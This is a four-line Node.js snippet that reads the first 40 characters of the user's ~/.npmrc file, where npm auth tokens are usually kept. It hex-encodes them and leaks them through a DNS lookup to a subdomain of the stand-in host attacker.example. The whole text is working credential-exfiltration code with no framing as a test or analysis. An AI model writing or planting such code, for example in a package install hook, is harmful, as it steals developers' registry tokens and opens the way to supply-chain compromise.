const dns = require("dns");
const fs = require("fs");
const token = fs.readFileSync(process.env.HOME + "/.npmrc", "utf8").slice(0, 40);
dns.lookup(Buffer.from(token).toString("hex") + ".t.attacker.example", () => {});
